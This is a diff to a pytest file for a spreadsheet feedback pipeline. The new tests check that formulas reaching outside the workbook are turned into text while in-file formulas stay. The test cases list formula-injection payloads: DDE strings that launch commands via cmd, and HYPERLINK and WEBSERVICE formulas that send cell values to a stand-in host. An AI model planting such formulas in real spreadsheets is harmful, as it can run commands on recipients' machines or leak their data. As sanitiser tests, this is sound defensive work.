@@ -13,9 +13,9 @@ import pytest
 from openpyxl.comments import Comment
 
 from pipelines.reports.feedback import Letter
-from pipelines.reports.feedback_book import AUTHOR, feedback_book
+from pipelines.reports.feedback_book import AUTHOR, feedback_book, reaches_out
 from pipelines.reports.feedback_sheet import COLOURS, SHEET_NAME
-from tests.cases.building import build
+from tests.cases.building import ROOT, UNITS, build
 from tests.reports.letters import POINT, checked, letter, point
 
 SHEET, CELL = "Biểu 02-CQ", "E11"
@@ -139,8 +139,15 @@ def test_a_comment_of_the_sender_stays(source: bytes, tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    "formula", ["=cmd|' /c calc'!A1", '=HYPERLINK("http://x.example/"&E11)', "=[1]Sheet1!A1"]
-)
+    "formula",
+    [
+        "=cmd|' /c calc'!A1", "=1+cmd|'/c \"calc'!A1&\"\"", "='cmd'|'/c'!A1",
+        '=HYPERLINK("http://x.example/"&E11)', "=HYPERLINK(A1)", '=HYPERLINK("#x"&A1,"x")',
+        '=HYPERLINK(IF(1,A1),IF(2,"#x","#y"))', '=HYPERLINK("#x",WEBSERVICE(A1))',
+        "=[1]Sheet1!A1", "=[1]!ten", "='[1]Sổ A'!A1", "='C:\\x\\[a.xlsx]S'!A1",
+        "='a\"'!A1+[1]S!A1+'\"'!B1",
+    ],
+)  # fmt: skip
 def test_formulas_that_reach_out_become_texts(source: bytes, formula: str) -> None:
     def inject(book: Any) -> None:
         book[SHEET]["H30"] = formula
@@ -148,6 +155,40 @@ def test_formulas_that_reach_out_become_texts(source: bytes, formula: str) -> No
     cell = opened(feedback_book(letter(), edited(source, inject))[0])[SHEET]["H30"]
     assert cell.data_type == "s"
     assert cell.value == "'" + formula
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ['=E11&"|"&E12', "='Sổ|A'!B2", "=SUM(T[c])", '=IF(E11="[x]!",1,2)', '=HYPERLINK("#E11","b")'],
+)
+def test_formulas_that_stay_within_the_file_stay(formula: str) -> None:
+    assert not reaches_out(formula)
+
+
+@pytest.mark.parametrize("form_id", ["xa-2021", "cq-2021", "dn-2021"])
+def test_the_forms_own_check_sheet_stays(form_id: str, tmp_path: Path) -> None:
+    provider = UNITS[form_id]
+    data = (ROOT / "raw" / "2021-H1" / provider / f"{form_id}_2021-H1.xlsx").read_bytes()
+    done, told = checked(data, tmp_path)
+    back = feedback_book(told, data)[0]
+    before, after = (formulas(book) for book in (data, back))
+    assert len(before) > 50
+    assert after == before
+    again, _ = checked(back, tmp_path)
+    columns = ["sheet", "cell", "rule", "found", "expected"]
+    assert again.findings[columns].equals(done.findings[columns])
+
+
+def formulas(data: bytes) -> dict[tuple[str, str], str]:
+    """Formulas of a book by sheet and cell, without those of the list."""
+    return {
+        (sheet.title, cell.coordinate): str(cell.value)
+        for sheet in opened(data).worksheets
+        if sheet.title != SHEET_NAME
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    }
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+84", "@SUM(A1)", "-2+3"])
